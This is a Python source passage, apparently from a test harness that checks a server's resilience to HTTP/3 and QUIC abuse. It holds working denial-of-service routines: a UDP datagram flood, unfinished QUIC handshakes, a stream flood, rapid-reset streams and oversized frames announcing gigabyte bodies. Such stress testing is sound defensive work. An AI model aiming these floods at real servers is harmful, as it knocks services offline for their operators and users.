    """Random UDP datagrams at the HTTP/3 port; every `shaped_every`th shaped like an Initial.

    Sent `per_pause` at a time, `pause` seconds apart: paced (never measured),
    since the server's socket buffer holds some 150 datagrams and drops the
    rest, and so that the honest client gets its turn.
    """
    outcome = Outcome("HTTP/3 datagram flood")
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setblocking(False)
    try:
        sock.bind((HOST, 0))
        shaped = 0
        for index in range(datagrams):
            if index % shaped_every == 0:
                payload = _initial_shaped()
                shaped += 1
            else:
                payload = os.urandom(1 + (index * 7919) % 1400)
            with contextlib.suppress(BlockingIOError):
                sock.sendto(payload, (HOST, port))
            if index % per_pause == per_pause - 1:
                await asyncio.sleep(pause)
        outcome.connections = datagrams
        outcome.peak_connections = outcome.opened = shaped
        outcome.provoked = shaped
        outcome.notes.append(f"{shaped} shaped like Initial packets")
    finally:
        sock.close()
    return outcome


async def quic_never_finished(
    port: int, *, ca: str, connections: int = 300, wait: float = 3.0
) -> Outcome:
    """QUIC connections that send their first flight and never anything after it."""
    outcome = Outcome("QUIC handshake never finished", connections=connections)
    peers: list[QuicPeer] = []
    for _ in range(connections):
        peer = await QuicPeer.connect(port, ca=ca, handshake=False)
        peer.deaf = True  # from now on: nothing the server sends is read or answered
        peers.append(peer)
    outcome.peak_connections = outcome.opened = len(peers)
    await asyncio.sleep(wait)
    for peer in peers:
        if peer.transport is not None:
            peer.transport.close()
    outcome.note("deaf: what the server did is read from its stats")
    return outcome


async def h3_stream_flood(
    port: int, *, ca: str, streams: int = 2_000, wait: float = WAIT
) -> Outcome:
    """Sessions opened on one connection as fast as stream credit allows, each sending nothing."""
    outcome = Outcome("HTTP/3 stream flood", connections=1, opened=1, peak_connections=1)
    peer = await QuicPeer.connect(port, ca=ca)
    for index in range(streams):
        if not await peer.stream_credit():
            break
        peer.open_session()
        outcome.provoked += 1
        if index % 50 == 0:
            peer.transmit()
            await asyncio.sleep(0.001)
    peer.transmit()
    await peer.wait_closed(wait)
    peer.tally(outcome)
    outcome.note(f"{len(peer.responses)} answered with headers")
    peer.close()
    return outcome


async def h3_abusive_resets(
    port: int, *, ca: str, streams: int = 10_000, wait: float = WAIT
) -> Outcome:
    """Rapid reset over HTTP/3: open a session, reset it at once, again and again."""
    outcome = Outcome("HTTP/3 abusive resets", connections=1, opened=1, peak_connections=1)
    peer = await QuicPeer.connect(port, ca=ca)
    for index in range(streams):
        if not await peer.stream_credit():
            break
        stream_id = peer.open_session()
        peer.quic.reset_stream(stream_id, H3ErrorCode.H3_REQUEST_CANCELLED)
        outcome.provoked += 1
        if index % 50 == 0:
            peer.transmit()
            await asyncio.sleep(0.001)
    peer.transmit()
    await peer.wait_closed(wait)
    peer.tally(outcome)
    peer.close()
    return outcome


H3_OVERSIZED = ("headers", "data", "reserved")


async def h3_oversized_frames(
    port: int, *, ca: str, where: str, announced: int = 1 << 30, wait: float = WAIT
) -> Outcome:
    """A frame whose header announces `announced` bytes, then as much body as credit allows.

    `where`: a HEADERS frame opening a request stream; a DATA frame on an
    opened session; or a frame of a reserved type (0x21, RFC 9114 7.2.8)
    opening a request stream, which a server must skip: skipping must not
    mean buffering.
    """
    outcome = Outcome(
        f"HTTP/3 oversized {where} frame", connections=1, opened=1, peak_connections=1
    )
    peer = await QuicPeer.connect(port, ca=ca)
    quic = peer.quic
    stream_id = quic.get_next_available_stream_id()
    frame_type = {"headers": H3FrameType.HEADERS, "data": H3FrameType.DATA}.get(where, 0x21)
    if where == "data":
        assert peer.http is not None
        peer.http.send_headers(stream_id, peer.session_headers())
    quic.send_stream_data(stream_id, _varint(frame_type) + _varint(announced))
    outcome.provoked = 1
    body = os.urandom(64 * 1024)
    for _ in range(16):  # up to 1 MiB: beyond the stream's credit, aioquic holds it back
        if peer.terminated.is_set() or peer.resets or peer.stopped:
            break
        try:
            quic.send_stream_data(stream_id, body)
        except RuntimeError:  # the stream was reset meanwhile (STOP_SENDING answered)
            break
        peer.transmit()
        await asyncio.sleep(0.01)
    await peer.wait_closed(wait)
    peer.tally(outcome)
    peer.close()
    return outcome


def _varint(value: int) -> bytes:
    if value < 1 << 6:
        return bytes([value])
    if value < 1 << 14:
        return struct.pack(">H", 0x4000 | value)
    if value < 1 << 30:
        return struct.pack(">I", 0x8000_0000 | value)
    return struct.pack(">Q", 0xC000_0000_0000_0000 | value)


__all__ = [
    "FLOODS",
    "H3_OVERSIZED",
    "HOST",
    "MADE_YOU_RESET",
    "Outcome",
    "QuicPeer",
    "RawH2",
    "connection_caps",
    "data_dribble",
    "datagram_flood",
    "flood",
    "h3_abusive_resets",
    "h3_oversized_frames",
    "h3_stream_flood",
    "internal_buffering",
    "made_you_reset",
    "oversized_frames",
    "quic_never_finished",
    "silent_sessions",
    "tls_garbage",
    "tls_never_finished",
]
